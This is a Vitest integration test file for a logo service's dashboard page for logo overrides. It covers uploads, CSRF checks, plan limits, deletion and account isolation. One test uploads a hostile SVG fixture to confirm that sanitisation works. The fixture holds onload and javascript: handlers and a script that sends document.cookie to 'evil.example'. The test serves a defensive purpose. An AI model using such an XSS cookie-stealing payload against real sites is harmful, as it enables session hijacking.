// The logo overrides page through HTTP: form posts with the session cookie and CSRF token, the same refusals (in the
// same words) as PUT /v1/overrides, and what the account's keys are served afterwards.
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TWENTY_SECONDS_INTO_A_MINUTE } from '../../helpers/clock.ts';
import { formClient, type FormClient } from '../../helpers/form-client.ts';
import { bodyOf, MAGIC, pixelsOf, redShare } from '../../helpers/images.ts';
import { createTestOrigin, type TestOrigin } from '../../helpers/origin.ts';
import { blankSvg, wordmarkPng } from '../../helpers/site-images.ts';

const PASSWORD = 'correct horse battery';
const MAX_BYTES = 65_536;
let origin: TestOrigin;
let client: FormClient;
let key: string;
let otherKey: string;
let accountId: string;

const logo = (domain: string, who: string, query = 'format=png&size=128') => origin.request(`/v1/${domain}?${query}`, { headers: { 'x-api-key': who } });
const api = (path: string, who: string, init: RequestInit = {}) => origin.request(path, { ...init, headers: { 'x-api-key': who, ...(init.headers as Record<string, string>) } });

function uploadForm(csrf: string, domain: string, file: Buffer | string | undefined, name = 'logo.png', type = 'image/png'): FormData {
  const form = new FormData();
  form.set('csrf', csrf);
  form.set('domain', domain);
  form.set('file', new Blob(file === undefined ? [] : [typeof file === 'string' ? file : new Uint8Array(file)], { type }), file === undefined ? '' : name);
  return form;
}
const upload = async (who: FormClient, domain: string, file: Buffer | string | undefined, name?: string, type?: string) =>
  who.postMultipart('/dashboard/overrides', uploadForm(await who.csrf('/dashboard/overrides'), domain, file, name, type));

/** The refusal the page announces, as text. */
function alertOf(html: string): string | undefined {
  const raw = /<p id="upload-error" class="form-error" role="alert">([\s\S]*?)<\/p>/.exec(html)?.[1];
  return raw?.replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
}
/** What the API answers the same upload, in the page's words for the field ("file" where the API says "body"). */
async function apiMessage(domain: string, body: Buffer | string, type = 'image/png'): Promise<string> {
  // With its length declared, as a client on a socket sends it (app.request() would stream it without one).
  const headers = { 'content-type': type, 'content-length': String(Buffer.byteLength(body)) };
  const response = await api(`/v1/overrides/${domain}`, key, { method: 'PUT', body, headers });
  expect(response.ok).toBe(false);
  return ((await response.json()) as { message: string }).message.replace(/^body \(the logo file\)/, 'file (the logo file)');
}
const overrides = () => origin.deps.state.overrides.list(accountId);

beforeAll(async () => {
  origin = await createTestOrigin({ env: { DISCOVERY_MAX_BYTES: String(MAX_BYTES) }, now: () => TWENTY_SECONDS_INTO_A_MINUTE });
  const account = await origin.deps.accounts.createAccount('overrides@example.com', 'free');
  accountId = account.id;
  await origin.deps.passwords.set(account.id, PASSWORD);
  ({ key } = await origin.deps.accounts.createKey(account.id, 'crm'));
  ({ key: otherKey } = await origin.deps.accounts.createKey((await origin.deps.accounts.createAccount('other@example.com', 'free')).id, 'crm'));
  client = formClient((path, init) => origin.request(path, init, '198.51.100.30'));
  expect((await client.signIn('overrides@example.com', PASSWORD)).status).toBe(303);
}, 60_000);
afterAll(() => origin.cleanup());

describe('dashboard logo overrides', () => {
  it('is linked from the navigation and the dashboard, and starts empty with the plan limit', async () => {
    const dashboard = await (await client.get('/dashboard')).text();
    expect(dashboard.match(/href="\/dashboard\/overrides"/g)).toHaveLength(2);
    const response = await client.get('/dashboard/overrides');
    expect(response.status).toBe(200);
    const html = await response.text();
    expect(html).toContain('Your overrides (0 of 3 on the free plan)');
    expect(html).toContain('enctype="multipart/form-data"');
    expect(html).toContain('at most 64 KiB');
  });

  it("uploads a logo for a domain the account's key requested; its keys are served it, another account's key is not", async () => {
    const publicLogo = await logo('stripe.com', key);
    expect(publicLogo.status).toBe(200);
    const red = await wordmarkPng('#d62828', 1280);
    const response = await upload(client, 'https://www.Stripe.com/', red);
    expect(response.status).toBe(201);
    const html = await response.text();
    expect(html).toContain('Your logo of stripe.com is stored');
    expect(html).toContain('data-replace-url="/dashboard/overrides"');
    const [stored] = await overrides();
    expect(stored).toMatchObject({ domain: 'stripe.com', format: 'png', width: 1024, height: 205 });
    const preview = `/dashboard/overrides/stripe.com/image?v=${stored!.contentHash.slice(0, 12)}`;
    expect(html).toContain(`<tr data-override-domain="stripe.com"><td class="override-preview"><img src="${preview}" alt="Your logo of stripe.com" width="160" height="32"/>`);
    expect(html).toContain('PNG, 1024 × 205');

    const image = await client.get(preview);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/png');
    expect(image.headers.get('cache-control')).toBe('private, no-store');
    expect(redShare((await pixelsOf(await bodyOf(image))).data)).toBeGreaterThan(0.05);

    const own = await logo('stripe.com', key);
    expect(own.headers.get('x-logo-override')).toBe('account');
    expect(redShare((await pixelsOf(await bodyOf(own))).data)).toBeGreaterThan(0.05);
    const other = await logo('stripe.com', otherKey);
    expect(other.headers.get('x-logo-override')).toBeNull();
    expect(other.headers.get('etag')).toBe(publicLogo.headers.get('etag'));
    expect(redShare((await pixelsOf(await bodyOf(other))).data)).toBeLessThan(0.01);
  });

  it('refuses an upload without the CSRF token and stores nothing', async () => {
    await logo('github.com', key);
    const before = await overrides();
    const response = await client.postMultipart('/dashboard/overrides', uploadForm('forged', 'github.com', await wordmarkPng('#d62828', 200)));
    expect(response.status).toBe(403);
    expect(await response.text()).toContain('This form was refused');
    expect(await overrides()).toEqual(before);
  });

  it('shows the API\'s own message for each refusal, keeps the typed domain, and stores nothing', async () => {
    await logo('notion.so', key);
    const before = await overrides();
    const html = '<!DOCTYPE html><html><head><title>Notion</title></head><body></body></html>';
    const mark = await wordmarkPng('#000000', 128);
    // A photograph-like PNG: random pixels do not compress, so it is over the limit but inside the form's allowance.
    const big = await sharp(randomBytes(160 * 160 * 3), { raw: { width: 160, height: 160, channels: 3 } }).png().toBuffer();
    expect(big.length).toBeGreaterThan(MAX_BYTES);
    expect(big.length).toBeLessThan(MAX_BYTES + 16 * 1024 - 1024);
    const cases: { domain: string; file: Buffer | string | undefined; type?: string; status: number; said: RegExp }[] = [
      { domain: 'never-asked.example', file: mark, status: 400, said: /^domain never-asked\.example: none of this account's keys has requested its logo/ },
      { domain: 'notion.so', file: html, type: 'image/png', status: 400, said: /^file \(the logo file\): the bytes are not an image/ },
      { domain: 'notion.so', file: blankSvg, type: 'image/svg+xml', status: 400, said: /^file \(the logo file\): .*blank/ },
      { domain: 'notion.so', file: undefined, status: 400, said: /^file \(the logo file\): the file is empty$/ },
      { domain: 'notion.so', file: big, status: 413, said: new RegExp(`^file \\(the logo file\\) must be at most ${MAX_BYTES} bytes, got ${big.length}$`) },
    ];
    for (const { domain, file, type, status, said } of cases) {
      const response = await upload(client, domain, file, 'logo', type);
      expect(response.status, String(said)).toBe(status);
      const page = await response.text();
      const message = alertOf(page);
      expect(message, String(said)).toMatch(said);
      if (file !== undefined) expect(message).toBe(await apiMessage(domain, file, type));
      expect(page).toContain(`value="${domain}"`);
    }
    const invalid = await upload(client, 'not a domain', mark);
    expect(invalid.status).toBe(400);
    expect(alertOf(await invalid.text())).toMatch(/domain/);
    expect(await overrides()).toEqual(before);
  });

  it('refuses a body beyond the form\'s allowance before reading it, with the API\'s words', async () => {
    const huge = await sharp(randomBytes(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } }).png().toBuffer();
    expect(huge.length).toBeGreaterThan(MAX_BYTES + 16 * 1024);
    const response = await upload(client, 'notion.so', huge);
    expect(response.status).toBe(413);
    expect(alertOf(await response.text())).toBe(`file (the logo file) must be at most ${MAX_BYTES} bytes, got more`);
  });

  it('stores an SVG with script sanitised, says so, and previews it without the script', async () => {
    await logo('gitlab.com', key, 'format=svg');
    const hostile =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64" onload="alert(1)">' +
      '<script>fetch("https://evil.example/"+document.cookie)</script><path fill="#fc6d26" d="M32 4 60 58H4z" onclick="alert(3)"/>' +
      '<a xlink:href="javascript:alert(2)"><rect x="28" y="40" width="8" height="8" fill="#e24329"/></a></svg>';
    const response = await upload(client, 'gitlab.com', hostile, 'logo.svg', 'image/svg+xml');
    expect(response.status).toBe(201);
    expect(await response.text()).toContain('The SVG is stored sanitised');
    const stored = (await overrides()).find((o) => o.domain === 'gitlab.com')!;
    const preview = await client.get(`/dashboard/overrides/gitlab.com/image?v=${stored.contentHash.slice(0, 12)}`);
    expect(preview.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
    expect(preview.headers.get('content-security-policy')).toMatch(/^default-src 'none'/);
    const text = await preview.text();
    expect(MAGIC.svg!(Buffer.from(text))).toBe(true);
    expect(text).not.toMatch(/<script|onload|onclick|javascript:/i);
    expect(text).toContain('#fc6d26');
    expect((await logo('gitlab.com', key, 'format=svg')).headers.get('x-logo-override')).toBe('account');
  });

  it("stops at the plan's limit with the API's message; replacing an override is not one more", async () => {
    for (const domain of ['github.com', 'figma.com']) await logo(domain, key);
    const mark = await wordmarkPng('#264653', 200);
    expect((await upload(client, 'github.com', mark)).status).toBe(201);
    const fourth = await upload(client, 'figma.com', mark);
    expect(fourth.status).toBe(403);
    const page = await fourth.text();
    expect(alertOf(page)).toBe('the free plan allows overrides of 3 domains; remove one before adding figma.com');
    expect(page).toContain('Your overrides (3 of 3 on the free plan)');
    expect((await upload(client, 'github.com', await wordmarkPng('#e76f51', 200))).status).toBe(201);
    expect(await overrides()).toHaveLength(3);
  });

  it('removes an override only with the CSRF token; the key is served the public logo again', async () => {
    const csrf = await client.csrf('/dashboard/overrides');
    expect((await client.post('/dashboard/overrides/stripe.com/delete', { csrf: 'forged' })).status).toBe(403);
    expect((await logo('stripe.com', key)).headers.get('x-logo-override')).toBe('account');
    const removed = await client.post('/dashboard/overrides/stripe.com/delete', { csrf });
    expect(removed.status).toBe(303);
    expect(removed.headers.get('location')).toBe('/dashboard/overrides');
    expect((await overrides()).map((o) => o.domain)).not.toContain('stripe.com');
    expect(await (await client.get('/dashboard/overrides')).text()).not.toContain('data-override-domain="stripe.com"');
    expect((await logo('stripe.com', key)).headers.get('x-logo-override')).toBeNull();
    const again = await client.post('/dashboard/overrides/stripe.com/delete', { csrf });
    expect(again.status).toBe(404);
    expect(await again.text()).toContain('domain stripe.com: this account has no override of it');
  });

  it("shows and removes only the account's own overrides", async () => {
    await logo('notion.so', otherKey);
    expect((await api('/v1/overrides/notion.so', otherKey, { method: 'PUT', body: await wordmarkPng('#d62828', 200) })).status).toBe(200);
    expect((await client.get('/dashboard/overrides/notion.so/image')).status).toBe(404);
    expect((await client.post('/dashboard/overrides/notion.so/delete', { csrf: await client.csrf('/dashboard/overrides') })).status).toBe(404);
    expect((await logo('notion.so', otherKey)).headers.get('x-logo-override')).toBe('account');
  });

  it('sends a signed-out visitor to sign in, for the page, its forms and its previews', async () => {
    const stranger = formClient((path, init) => origin.request(path, init, '198.51.100.31'));
    for (const response of [
      await stranger.get('/dashboard/overrides'),
      await stranger.get('/dashboard/overrides/gitlab.com/image'),
      await stranger.postMultipart('/dashboard/overrides', uploadForm('x', 'gitlab.com', 'x')),
      await stranger.post('/dashboard/overrides/gitlab.com/delete', {}),
    ]) {
      expect(response.status).toBe(303);
      expect(response.headers.get('location')).toBe('/signin');
    }
  });
});
